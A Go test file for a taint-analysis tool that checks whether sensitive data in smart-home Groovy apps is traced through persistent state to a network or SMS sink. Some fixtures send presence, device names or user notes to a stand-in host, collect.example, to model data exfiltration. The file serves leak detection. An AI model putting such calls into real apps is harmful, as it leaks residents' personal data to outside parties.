package taint_test

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/core"
)

// resolverApp builds a two-handler app: the writer handler stores an
// expression in persistent state, the reader handler transmits the
// field, and helpers are extra methods appended after them. Symbolic
// execution of the reader sees only an opaque state-variable mark, so
// these flows exercise the resolver's chase through the state writes
// symbolic execution recorded.
func resolverApp(writes, sink, helpers string) string {
	return `
definition(name: "hop", namespace: "t", author: "t")
preferences {
    section("Devices") {
        input "kids", "capability.presenceSensor"
        input "note", "text", title: "Note"
    }
}
def installed() {
    subscribe(kids, "presence", w)
    subscribe(kids, "presence.not present", r)
}
def w(evt) {
` + writes + `
}
def r(evt) {
    ` + sink + `
}
` + helpers
}

// TestResolverCrossHandlerState covers the persistent-state resolution
// path: a field written by one handler and transmitted by another must
// resolve back to its sensitive origin, through field-to-field chains,
// ternaries, helper calls, and self-referential cycles.
//
// The resolver reads the marks symbolic execution recorded for each
// state write, so a write is seen exactly when symbolic execution
// reaches it with the value's marks. Eight rows below differ from the
// earlier resolver, which walked def-use chains over every assignment
// in the source; each says why.
func TestResolverCrossHandlerState(t *testing.T) {
	cases := []struct {
		name    string
		writes  string
		sink    string
		helpers string
		wantID  string
		// wantVia and wantSource pin the resolved flow; wantNone
		// asserts silence.
		wantVia    string
		wantSource string
		wantNone   bool
	}{
		{
			name:       "direct cross-handler hop",
			writes:     `    state.lastSeen = "k: ${evt.displayName}"`,
			sink:       `sendSms("555-0100", "last: ${state.lastSeen}")`,
			wantID:     "T.2",
			wantVia:    "state.lastSeen",
			wantSource: "evt.displayName",
		},
		{
			name: "field-to-field chain resolves transitively",
			writes: `    state.raw = "v: ${evt.value}"
    state.out = state.raw`,
			sink:       `httpGet("http://collect.example/?d=${state.out}")`,
			wantID:     "T.1",
			wantVia:    "state.out",
			wantSource: "evt.value",
		},
		{
			name:       "ternary branches both classified",
			writes:     `    state.memo = evt.value == "present" ? "home ${note}" : "away"`,
			sink:       `sendPush("memo: ${state.memo}")`,
			wantID:     "T.6",
			wantVia:    "state.memo",
			wantSource: "note",
		},
		{
			name:     "self-referential append terminates and stays clean",
			writes:   `    state.log = "${state.log}."`,
			sink:     `sendSms("555-0100", "log: ${state.log}")`,
			wantNone: true,
		},
		{
			name:     "literal-only field is not sensitive",
			writes:   `    state.greeting = "hello"`,
			sink:     `sendSms("555-0100", "g: ${state.greeting}")`,
			wantNone: true,
		},
		{
			name:       "atomicState write read through state",
			writes:     `    atomicState.x = evt.displayName`,
			sink:       `sendSms("555-0100", "x: ${state.x}")`,
			wantID:     "T.2",
			wantVia:    "state.x",
			wantSource: "evt.displayName",
		},
		{
			name:       "location mode stored",
			writes:     `    state.m = location.mode`,
			sink:       `sendPush("mode: ${state.m}")`,
			wantID:     "T.4",
			wantVia:    "state.m",
			wantSource: "location.mode",
		},
		{
			name:       "user input stored, sent over the network",
			writes:     `    state.n = note`,
			sink:       `httpPost("http://collect.example/", "n=${state.n}")`,
			wantID:     "T.5",
			wantVia:    "state.n",
			wantSource: "note",
		},
		{
			name:       "device read stored",
			writes:     `    state.p = kids.currentValue("presence")`,
			sink:       `sendSms("555-0100", "p: ${state.p}")`,
			wantID:     "T.2",
			wantVia:    "state.p",
			wantSource: "kids.presence",
		},
		{
			name:       "concatenation stored",
			writes:     `    state.x = "seen " + evt.displayName`,
			sink:       `sendSms("555-0100", "x: ${state.x}")`,
			wantID:     "T.2",
			wantVia:    "state.x",
			wantSource: "evt.displayName",
		},
		{
			name:       "map literal stored",
			writes:     `    state.x = [who: evt.displayName]`,
			sink:       `httpPostJson([uri: "http://collect.example/", body: state.x])`,
			wantID:     "T.1",
			wantVia:    "state.x",
			wantSource: "evt.displayName",
		},
		{
			name: "write under a feasible guard",
			writes: `    if (evt.value == "present") {
        state.x = evt.displayName
    }`,
			sink:       `sendSms("555-0100", "x: ${state.x}")`,
			wantID:     "T.2",
			wantVia:    "state.x",
			wantSource: "evt.displayName",
		},
		{
			name:     "recipient position is not payload",
			writes:   `    state.phone = note`,
			sink:     `sendSms(state.phone, "hello")`,
			wantNone: true,
		},
		{
			name:     "sanitized before the write",
			writes:   `    state.x = redact(evt.displayName)`,
			sink:     `sendSms("555-0100", "x: ${state.x}")`,
			wantNone: true,
		},
		{
			name:     "field that is never written",
			writes:   `    state.other = evt.displayName`,
			sink:     `sendSms("555-0100", "x: ${state.never}")`,
			wantNone: true,
		},
		{
			name:   "write in a lifecycle method",
			writes: `    state.other = "x"`,
			sink:   `sendPush("x: ${state.x}")`,
			helpers: `def updated() {
    state.x = note
}
`,
			wantID:     "T.6",
			wantVia:    "state.x",
			wantSource: "note",
		},
		{
			name: "two-field cycle still reaches its source",
			writes: `    state.a = state.b
    state.b = "${state.a}|${evt.value}"`,
			sink:       `sendSms("555-0100", "a: ${state.a}")`,
			wantID:     "T.2",
			wantVia:    "state.a",
			wantSource: "evt.value",
		},
		// Rows whose result differs from the def-use resolver. The next
		// five stored a sensitive value through a local, a helper
		// parameter, a helper's return value, an opaque call or a
		// helper's chain of locals; the def-use walk lost the mark at
		// that step and reported nothing, although each shape is
		// reported when the value reaches a sink directly. Symbolic
		// execution carries the mark through all five.
		{
			name: "stored through a local",
			writes: `    def n = evt.displayName
    state.x = n`,
			sink:       `sendSms("555-0100", "x: ${state.x}")`,
			wantID:     "T.2",
			wantVia:    "state.x",
			wantSource: "evt.displayName",
		},
		{
			name:   "stored through a helper parameter",
			writes: `    save(evt.value)`,
			sink:   `sendSms("555-0100", "x: ${state.x}")`,
			helpers: `def save(v) {
    state.x = v
}
`,
			wantID:     "T.2",
			wantVia:    "state.x",
			wantSource: "evt.value",
		},
		{
			name:   "stored from a helper return value",
			writes: `    state.x = describe(evt)`,
			sink:   `sendSms("555-0100", "x: ${state.x}")`,
			helpers: `def describe(e) {
    return "at ${e.displayName}"
}
`,
			wantID:     "T.2",
			wantVia:    "state.x",
			wantSource: "evt.displayName",
		},
		{
			name:       "stored through an opaque call",
			writes:     `    state.x = evt.value.toUpperCase()`,
			sink:       `sendSms("555-0100", "x: ${state.x}")`,
			wantID:     "T.2",
			wantVia:    "state.x",
			wantSource: "evt.value",
		},
		{
			name:   "stored through a helper's chain of locals",
			writes: `    keep(evt.displayName)`,
			sink:   `sendSms("555-0100", "x: ${state.x}")`,
			helpers: `def keep(v) {
    def a = v
    def b = a
    state.x = b
}
`,
			wantID:     "T.2",
			wantVia:    "state.x",
			wantSource: "evt.displayName",
		},
		// The def-use resolver reported the next two because it read
		// every assignment in the source. Symbolic execution never
		// reaches a write under a contradictory guard, nor one in a
		// method that no entry point or lifecycle method calls.
		{
			name: "write under a contradictory guard",
			writes: `    if (evt.value == "present") {
        if (evt.value == "not present") {
            state.x = evt.displayName
        }
    }`,
			sink:     `sendSms("555-0100", "x: ${state.x}")`,
			wantNone: true,
		},
		{
			name:   "write in a method nothing calls",
			writes: `    state.other = "x"`,
			sink:   `sendSms("555-0100", "x: ${state.x}")`,
			helpers: `def unused(evt) {
    state.x = evt.displayName
}
`,
			wantNone: true,
		},
		// The def-use resolver also reported note (T.6) here. Symbolic
		// execution evaluates only the value side of ?: unless it is
		// concretely null, as it does for a direct
		// sendSms("${evt.value ?: note}").
		{
			name:       "elvis default is not evaluated",
			writes:     `    state.x = evt.value ?: note`,
			sink:       `sendSms("555-0100", "x: ${state.x}")`,
			wantID:     "T.2",
			wantVia:    "state.x",
			wantSource: "evt.value",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			an, err := core.AnalyzeSources(core.Options{Taint: true},
				core.NamedSource{Name: "hop", Source: resolverApp(tc.writes, tc.sink, tc.helpers)})
			if err != nil {
				t.Fatal(err)
			}
			if tc.wantNone {
				if len(an.TaintFlows) != 0 {
					t.Fatalf("flows = %+v, want none", an.TaintFlows)
				}
				return
			}
			if len(an.TaintFlows) != 1 {
				t.Fatalf("flows = %+v, want exactly one", an.TaintFlows)
			}
			f := an.TaintFlows[0]
			if f.ID != tc.wantID || f.Via != tc.wantVia || f.Source != tc.wantSource {
				t.Errorf("flow = %s %s via %q source %q, want %s via %q source %q",
					f.ID, f.Sink, f.Via, f.Source, tc.wantID, tc.wantVia, tc.wantSource)
			}
			joined := strings.Join(f.Witness, "\n")
			if !strings.Contains(joined, tc.wantVia) {
				t.Errorf("witness omits the state hop %q:\n%s", tc.wantVia, joined)
			}
		})
	}
}
